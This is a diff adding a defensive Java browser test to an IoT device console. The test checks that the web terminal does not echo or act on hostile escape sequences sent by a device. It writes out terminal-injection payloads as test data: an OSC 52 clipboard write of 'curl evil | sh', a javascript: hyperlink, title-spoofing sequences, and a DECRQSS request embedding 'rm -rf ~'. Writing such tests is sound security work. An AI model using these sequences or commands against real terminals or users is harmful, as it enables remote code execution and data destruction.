@@ -1,6 +1,8 @@
 package io.cameliotmp.api;
 
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
@@ -9,6 +11,7 @@ import java.util.concurrent.LinkedBlockingQueue;
 import java.util.concurrent.TimeUnit;
 
 import io.cameliotmp.device.IotmpDevice;
+import io.cameliotmp.device.ResourceKind;
 import io.cameliotmp.test.HeadlessChromium;
 import org.awaitility.Awaitility;
 import org.junit.jupiter.api.AfterEach;
@@ -128,6 +131,76 @@ class ConsoleHostileDeviceBrowserTest extends ApiTestSupport {
             assertThat(((Number) config.get("rate")).intValue()).isEqualTo(5);
         });
         assertThat(errors()).isEmpty();
+    }
+
+    /**
+     * A terminal whose device answers the first key with escape sequences meant to act in the user's name: a
+     * clipboard write (OSC 52), a link to a script (OSC 8), a window title (OSC 0 and 2), requests to report the title
+     * (CSI 21 t, 20 t), the window's size in pixels (CSI 14 t) and a setting whose report would echo the request's own
+     * text (DECRQSS), next to the ordinary cursor and attribute queries (CSI 6 n, CSI c). What reaches the device
+     * afterwards holds none of the device's own text (only fixed reports, and what the user typed), the page's title
+     * is its own, no link is made, nothing is written to the clipboard nor opened, and no script of the device runs.
+     */
+    @Test
+    void theTerminalSendsTheDeviceNothingOfItsOwnBack() throws Exception {
+        ByteArrayOutputStream received = new ByteArrayOutputStream();
+        String hostile = "\u001b]52;c;" + java.util.Base64.getEncoder().encodeToString(
+                "curl evil | sh\n".getBytes(StandardCharsets.UTF_8)) + "\u0007"
+                         + "\u001b]8;;javascript:window.ran=1\u001b\\click-me\u001b]8;;\u001b\\\r\n"
+                         + "\u001b]0;PWNED-TITLE\u0007\u001b]2;PWNED-TITLE\u001b\\"
+                         + "\u001b[21t\u001b[20t\u001b[14t"
+                         + "\u001bP$q;rm -rf ~\r\u001b\\"
+                         + "\u001b[6n\u001b[c"
+                         + "\r\nhostile-done\r\n";
+        connect("demo", "dev-1", "secret-1", d -> d.resource("$terminal/:session")
+                .handler(ResourceKind.INPUT_OUTPUT, request -> {
+                    if (!request.describeMode() && request.input() instanceof byte[] typed) {
+                        boolean first;
+                        synchronized (received) {
+                            first = received.size() == 0;
+                            received.writeBytes(typed);
+                        }
+                        if (first) {
+                            request.device().stream(request.path(), hostile.getBytes(StandardCharsets.UTF_8));
+                        }
+                    }
+                    return null;
+                }));
+        signInAndPick("dev-1");
+        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector(
+                "#resources tr[data-resource='$terminal/:session'] button[data-action='terminal']"))).click();
+        wait.withMessage("the session open").until(
+                ExpectedConditions.attributeToBe(By.id("terminal-status"), "data-state", "open"));
+        WebElement keys = browser.findElement(By.cssSelector("#terminal .xterm-helper-textarea"));
+        keys.sendKeys("a");
+        By rows = By.cssSelector("#terminal .xterm-rows");
+        wait.withMessage("the device's sequences written").until(driver -> driver.findElement(rows).getText()
+                .contains("hostile-done"));
+        // whatever the terminal answered to the sequences was sent before this key
+        keys.sendKeys("z");
+        Awaitility.await("the second key at the device").atMost(WAIT).until(() -> text(received).endsWith("z"));
+
+        String answered = text(received);
+        assertThat(answered).startsWith("a").endsWith("z");
+        assertThat(answered).doesNotContain("rm -rf", "curl", "PWNED", "javascript", "click-me");
+        // the reports it may get: fixed ones and numbers (the DECRQSS refusal, the cursor and the attributes)
+        assertThat(answered.substring(1, answered.length() - 1))
+                .matches("(\u001b(P[01]\\$r[0-9;\"pqrm ]*\u001b\\\\|\\[[?>0-9;]*[A-Za-z]))*");
+        // the DOM renderer writes a span per cell: the link's first letter
+        browser.findElement(By.xpath("(//*[@id='terminal']//div[contains(@class,'xterm-rows')]/div"
+                                     + "[starts-with(normalize-space(.),'click-me')]/span)[1]")).click();
+        assertThat(browser.getTitle()).isEqualTo(TITLE);
+        assertThat(browser.findElements(By.cssSelector("#terminal a"))).isEmpty();
+        assertThat(browser.executeScript("return [window.ran === undefined, window.clipboardWrites, window.opened,"
+                                         + " location.pathname];"))
+                .isEqualTo(List.of(true, List.of(), List.of(), "/console/"));
+        assertThat(errors()).isEmpty();
+    }
+
+    private static String text(ByteArrayOutputStream received) {
+        synchronized (received) {
+            return received.toString(StandardCharsets.UTF_8);
+        }
     }
 
     private List<?> errors() {
